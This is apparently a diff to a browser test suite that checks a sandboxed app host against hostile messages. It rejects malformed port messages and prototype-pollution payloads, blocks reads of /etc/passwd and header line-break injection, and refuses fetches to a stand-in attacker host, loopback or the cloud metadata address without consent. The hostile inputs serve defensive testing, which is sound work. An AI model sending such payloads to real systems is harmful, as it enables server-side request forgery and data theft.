@@ -31,11 +31,20 @@ const MALFORMED: Record<string, string> = {
   "kind-unknown": `{ type: "error", kind: "grave", message: "", stack: [], components: [], revision: 0 }`,
   "stack-not-list": `{ type: "error", kind: "render", message: "", stack: { length: 1e9 }, components: [], revision: 0 }`,
   "stack-too-long": `{ type: "error", kind: "render", message: "", stack: Array(1e5).fill(null), components: [], revision: 0 }`,
-  "link-script": `{ type: "openExternal", url: ["java", "script:alert(1)"].join("") }`,
-  "link-file": `{ type: "openExternal", url: "file:///etc/passwd" }`,
-  "storage-object": `{ type: "storageChanged", entries: { a: "b" } }`,
-  "storage-triple": `{ type: "storageChanged", entries: [["a", "b", "c"]] }`,
-  "storage-number": `{ type: "storageChanged", entries: [[1, 2]] }`,
+  "link-script": `{ type: "request", id: 1, call: { type: "openExternal", url: ["java", "script:alert(1)"].join("") } }`,
+  "link-file": `{ type: "request", id: 1, call: { type: "openExternal", url: "file:///etc/passwd" } }`,
+  "call-unknown": `{ type: "request", id: 1, call: { type: "readFile", path: "/etc/passwd" } }`,
+  "call-prototype": `{ type: "request", id: 1, call: { type: "__proto__" } }`,
+  "id-negative": `{ type: "request", id: -1, call: { type: "confirm", text: "" } }`,
+  "id-infinite": `{ type: "request", id: 1e309, call: { type: "confirm", text: "" } }`,
+  "id-prototype": `{ type: "request", id: "__proto__", call: { type: "confirm", text: "" } }`,
+  "header-list": `{ type: "request", id: 1, call: { type: "fetch", request: { url: "https://a.evil.example/", method: "GET", headers: { a: "b" } } } }`,
+  "header-line-break": `{ type: "request", id: 1, call: { type: "fetch", request: { url: "https://a.evil.example/", method: "GET", headers: [["a", "b\\r\\nc: d"]] } } }`,
+  "method-connect": `{ type: "request", id: 1, call: { type: "fetch", request: { url: "https://a.evil.example/", method: "CONNECT", headers: [] } } }`,
+  "store-object": `{ type: "store", seq: 1, changes: { a: "b" } }`,
+  "store-unknown": `{ type: "store", seq: 1, changes: [{ kind: "grant" }] }`,
+  "store-number": `{ type: "store", seq: 1, changes: [{ kind: "putItem", area: "local", key: 1, value: 2 }] }`,
+  "store-out-of-order": `{ type: "store", seq: 99, changes: [] }`,
   "console-nested": `{ type: "consoleBatch", entries: [{ level: "log", args: [{ a: 1 }], location: null }] }`,
   "console-level": `{ type: "consoleBatch", entries: [{ level: "fatal", args: [], location: null }] }`,
 };
@@ -166,13 +175,17 @@ test("who keeps breaking the rules of the port is put out", async ({ studio, pag
       polluted: () => String((({}) as any).polluted),
       pollute: async () => {
         const evil = (text: string) => JSON.parse(text);
-        (await port).postMessage(evil('{"type":"storageChanged","entries":[["__proto__","polluted"],["constructor","x"]]}'));
+        (await port).postMessage(evil('{"type":"store","seq":1,"changes":[{"kind":"putItem","area":"local","key":"__proto__","value":"polluted"},{"kind":"putItem","area":"session","key":"constructor","value":"x"}]}'));
         (await port).postMessage(evil('{"type":"consoleBatch","entries":[{"level":"log","args":["x"],"location":null,"__proto__":{"polluted":1}}]}'));
         (await port).postMessage(evil('{"type":"error","kind":"uncaught","message":"__proto__","stack":[],"components":["constructor"],"revision":0,"constructor":{"prototype":{"polluted":1}}}'));
         await pause(300);
         return "sent";
       },
       booted: async () => { (await port).postMessage({ type: "booted" }); await pause(50); return 1; },
+      again: async () => { const to = await port; to.raw({ version: 1, session: to.session, seq: 1, message: { type: "heartbeat" } }); await pause(50); return 1; },
+      stale: async () => { const to = await port; for (let n = 0; n < 20; n++) to.raw({ version: 1, session: to.session - 1, seq: 1e6 + n, message: { type: "unsafe", reason: "stale" } }); await pause(300); return 1; },
+      other: async () => { (await port).postMessage({ type: "store", seq: 1, app: "another", changes: [] }); await pause(50); return 1; },
+      requests: async () => { const to = await port; for (let id = 1; id <= 150; id++) to.postMessage({ type: "request", id, call: { type: "confirm", text: "request " + id } }); await pause(500); return 1; },
       large: async () => { (await port).postMessage({ type: "unsafe", reason: "x".repeat(50e6) }); return 1; },
       largeOften: async () => { for (let n = 0; n < 5; n++) (await port).postMessage({ type: "unsafe", reason: "x".repeat(50e6) }); return 1; },
       buffer: async () => { const data = new ArrayBuffer(200e6); (await port).postMessage({ type: "unsafe", reason: data }, [data]); return 1; },
@@ -188,7 +201,7 @@ test("who keeps breaking the rules of the port is put out", async ({ studio, pag
         (await port).postMessage(value);
         return 1;
       },
-      links: async () => { const to = await port; for (let n = 0; n < 100; n++) to.postMessage({ type: "openExternal", url: "https://a.evil.example/?" + n }); return 1; },
+      links: async () => { const to = await port; for (let n = 0; n < 100; n++) to.postMessage({ type: "request", id: n + 1, call: { type: "openExternal", url: "https://a.evil.example/?" + n } }); return 1; },
       flood: async () => { const to = await port; setInterval(() => { for (let n = 0; n < 2000; n++) to.postMessage({ type: "heartbeat" }); }, 0); return 1; },
       floodLarge: async () => { const to = await port; const text = "x".repeat(200_000); setInterval(() => { for (let n = 0; n < 20; n++) to.postMessage({ type: "consoleBatch", entries: [{ level: "log", args: [text], location: null }] }); }, 0); return 1; },
       windowFlood: () => { setInterval(() => { for (let n = 0; n < 2000; n++) win.top.postMessage(n, "*"); }, 0); },
@@ -209,6 +222,27 @@ test("who keeps breaking the rules of the port is put out", async ({ studio, pag
   rows.check("B04", "boot-told-often", /malformed/.test(await app.stopped()));
 
   await app.restart();
+  const stale = await app.run("stale");
+  rows.check("B05", "session-of-an-earlier-frame", stale === "done: 1" && (await app.isAlive()), stale);
+  const again = await app.run("again");
+  rows.check("B04", "old-number-refused", again === "done: 1" && (await app.isAlive()), again);
+  for (let more = 0; more < 4; more++) await app.press("again");
+  rows.check("B04", "old-numbers-often", /malformed/.test(await app.stopped()));
+
+  await app.restart();
+  const other = await app.run("other");
+  rows.check("B06", "id-in-a-message-refused", other === "done: 1" && (await app.isAlive()), other);
+  await app.run("requests");
+  const dialogs = page.locator(".request-dialog");
+  rows.check(
+    "B13",
+    "one-question-at-a-time",
+    (await dialogs.count()) === 1,
+    `${await dialogs.count()} dialogs`,
+  );
+  rows.check("B13", "app-stays", await app.isAlive());
+
+  await app.restart();
   await host.watchGap();
   for (const name of ["large", "buffer", "deep", "cyclic"]) {
     await app.press(name);
@@ -223,8 +257,8 @@ test("who keeps breaking the rules of the port is put out", async ({ studio, pag
   await app.restart();
   await app.press("links");
   await page.waitForTimeout(500);
-  const offers = await page.getByText("The app wants to open").count();
-  rows.check("B13", "links-offered", offers <= 2, `${offers} offers`);
+  const offers = await dialogs.count();
+  rows.check("B13", "links-offered", offers === 1, `${offers} offers`);
 
   for (const [id, name] of [
     ["B11", "flood"],
@@ -264,12 +298,10 @@ test("a frame that is gone says nothing more", async ({ studio, page, rows }) =>
         const cry = () => {
           to.postMessage({ type: "consoleBatch", entries: [{ level: "error", args: ["from the grave"], location: null }] });
           to.postMessage({ type: "error", kind: "uncaught", message: "from the grave", stack: [], components: [], revision: 1 });
-          to.postMessage({ type: "storageChanged", entries: [["grave", "yes"]] });
         };
         for (const name of ["pagehide", "unload", "visibilitychange", "beforeunload"]) { window.addEventListener(name, cry); document.addEventListener(name, cry); }
         return 1;
       },
-      stored: () => localStorage.getItem("grave"),
     }`,
     TAKE_PORT,
   );
@@ -279,8 +311,6 @@ test("a frame that is gone says nothing more", async ({ studio, page, rows }) =>
   const text = await app.console();
   rows.check("B05", "console", !text.includes("from the grave"), text.slice(0, 200));
   rows.check("B05", "errors", !(await page.locator("body").innerText()).includes("from the grave"));
-  const stored = await app.run("stored");
-  rows.check("B05", "storage", stored === "done: null", stored);
 });
 
 test("what an app stores and says is bounded and shown as text", async ({ studio, page, host, rows }) => {
@@ -337,4 +367,45 @@ test("what an app stores and says is bounded and shown as text", async ({ studio
   const shown = (await page.locator("body").innerText()).length;
   rows.check("B18", "long-error-truncated", shown < 200_000, `${shown} characters on the page`);
   rows.check("B18", "no-error-of-the-studio", host.errors.length === 0, host.errors.join("; "));
+});
+
+test("requests to the outside reach nobody without consent, and no private address with it", async ({
+  studio,
+  page,
+  receiver,
+  rows,
+}) => {
+  const app = await ActionApp.start(
+    studio,
+    `{
+      ask: () => SandboxAPI.fetch("https://secret-x16.evil.example/secret").then((answer) => answer.status, (error) => error.code),
+      loopback: () => SandboxAPI.fetch("https://127.0.0.1:1/").then((answer) => answer.status, (error) => error.code),
+      metadata: () => SandboxAPI.fetch("http://169.254.169.254/latest/meta-data/").then((answer) => answer.status, (error) => error.code),
+    }`,
+  );
+  const dialog = page.locator(".request-dialog");
+  const from = receiver.log.length;
+  await app.press("ask");
+  await expect(dialog).toContainText("secret-x16.evil.example");
+  rows.check("X16", "nothing-before-the-answer", receiver.since(from).length === 0);
+  await dialog.getByRole("button", { name: "Don't allow" }).click();
+  const status = studio.app.getByRole("status");
+  await expect(status).toHaveText("done: denied");
+  const heard = receiver.since(from);
+  rows.check("X16", "denied-host", heard.length === 0, heard.map(({ text }) => text).join("; "));
+  for (const name of ["ask", "loopback", "metadata"]) {
+    await app.press(name);
+    await expect(dialog.or(status.filter({ hasText: /^done: (?!denied)/ })).first()).toBeVisible();
+    if (await dialog.isVisible()) await dialog.getByRole("button", { name: "Allow this time" }).click();
+    // The receiver's own address is one that is kept for documentation.
+    await expect(status).toHaveText(/^done: (forbidden_address|invalid)$/);
+    rows.check(
+      "B16",
+      name === "ask" ? "name-of-a-special-address" : name,
+      true,
+      (await status.textContent()) ?? "",
+    );
+  }
+  const connected = receiver.since(from).filter(({ kind }) => kind !== "dns");
+  rows.check("B16", "no-connection", connected.length === 0, connected.map(({ text }) => text).join("; "));
 });
